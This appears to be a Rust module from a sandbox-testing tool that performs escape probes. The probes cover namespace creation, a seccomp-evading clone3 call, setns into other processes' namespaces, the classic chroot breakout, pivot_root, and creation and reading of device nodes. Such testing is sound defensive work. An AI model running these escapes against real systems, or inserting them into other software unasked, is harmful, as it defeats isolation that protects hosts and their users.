//! Other namespaces, other roots, and devices.

use std::fs;
use std::io::Read;

use crate::arguments::Arguments;
use crate::descriptors::open;
use crate::internet::{connect_and_write, family, socket, wire_address};
use crate::outcome::{Done, Named, Outcome, attacks, system_call};

attacks! {
    namespace, namespace_create, clone3_namespace, join_create, join_connect, chroot_create, pivot,
    device_node, device_read,
}

pub(crate) const USER_AND_MOUNT: i32 = libc::CLONE_NEWUSER | libc::CLONE_NEWNS;

fn create(arguments: &Arguments, index: usize) -> Outcome {
    fs::write(arguments.text(index)?, arguments.text(index + 1)?).named("open").done()
}

/// A user namespace with a network of its own, in which one is root.
fn namespace(_: &Arguments) -> Outcome {
    system_call!(SYS_unshare, libc::CLONE_NEWUSER | libc::CLONE_NEWNET)?;
    Ok("a namespace".to_owned())
}

/// Makes everything writable in mounts of one's own.
fn namespace_create(arguments: &Arguments) -> Outcome {
    system_call!(SYS_unshare, USER_AND_MOUNT)?;
    let flags = libc::MS_REMOUNT | libc::MS_BIND;
    let _ = system_call!(SYS_mount, 0, c"/", 0, flags, 0);
    create(arguments, 0)
}

/// The same by the newest call, whose flags are in memory, where no filter sees them.
fn clone3_namespace(_: &Arguments) -> Outcome {
    let mut request = [0_u64; 11];
    request[0] = (libc::CLONE_NEWUSER | libc::CLONE_NEWPID) as u64;
    request[4] = libc::SIGCHLD as u64;
    let child = system_call!(SYS_clone3, &request, size_of_val(&request))?;
    if child == 0 {
        // SAFETY: ends the child, which has a copy of everything.
        unsafe { libc::_exit(0) };
    }
    system_call!(SYS_wait4, child, 0, 0, 0)?;
    Ok("a namespace".to_owned())
}

/// Enters namespaces of another process: `flags` are those of clone(2).
fn join(pid: i32, flags: i32) -> Outcome {
    let fd = system_call!(SYS_pidfd_open, pid, 0)?;
    system_call!(SYS_setns, fd, flags).done()
}

fn join_create(arguments: &Arguments) -> Outcome {
    let joins_user = arguments.text(3)? == "user";
    join(arguments.number(0)?, if joins_user { USER_AND_MOUNT } else { libc::CLONE_NEWNS })?;
    create(arguments, 1)
}

fn join_connect(arguments: &Arguments) -> Outcome {
    join(arguments.number(0)?, libc::CLONE_NEWNET)?;
    let address = arguments.address(1)?;
    let fd = socket(family(address), libc::SOCK_STREAM, 0)?;
    connect_and_write(fd, &wire_address(address), arguments.text(2)?)
}

/// The old way out of a changed root: change it again, keep a descriptor outside of it, and climb.
fn chroot_create(arguments: &Arguments) -> Outcome {
    let _ = fs::create_dir("jail");
    let outside = open(c".", libc::O_PATH | libc::O_DIRECTORY)?;
    system_call!(SYS_chroot, c"jail")?;
    system_call!(SYS_fchdir, outside)?;
    for _ in 0..64 {
        system_call!(SYS_chdir, c"..")?;
    }
    system_call!(SYS_chroot, c".")?;
    create(arguments, 0)
}

/// Another root in mounts of one's own.
fn pivot(_: &Arguments) -> Outcome {
    system_call!(SYS_unshare, USER_AND_MOUNT)?;
    let _ = fs::create_dir("jail");
    system_call!(SYS_mount, 0, c"/", 0, libc::MS_REC | libc::MS_PRIVATE, 0)?;
    system_call!(SYS_mount, c"tmpfs", c"jail", c"tmpfs", 0, 0)?;
    system_call!(SYS_chdir, c"jail")?;
    system_call!(SYS_pivot_root, c".", c".")?;
    Ok("another root".to_owned())
}

fn first_bytes(path: &str) -> Outcome {
    let mut bytes = [0; 16];
    fs::File::open(path).named("open")?.read_exact(&mut bytes).named("read")?;
    Ok(format!("{} bytes of the device", bytes.len()))
}

/// Makes a device node where writing is allowed, and reads from it.
fn device_node(arguments: &Arguments) -> Outcome {
    let path = arguments.path(0)?;
    let kind = if arguments.text(1)? == "b" { libc::S_IFBLK } else { libc::S_IFCHR };
    let number = libc::makedev(arguments.number(2)?, arguments.number(3)?);
    system_call!(SYS_mknodat, libc::AT_FDCWD, &path, kind | 0o600, number)?;
    first_bytes(arguments.text(0)?)
}

fn device_read(arguments: &Arguments) -> Outcome {
    first_bytes(arguments.text(0)?)
}
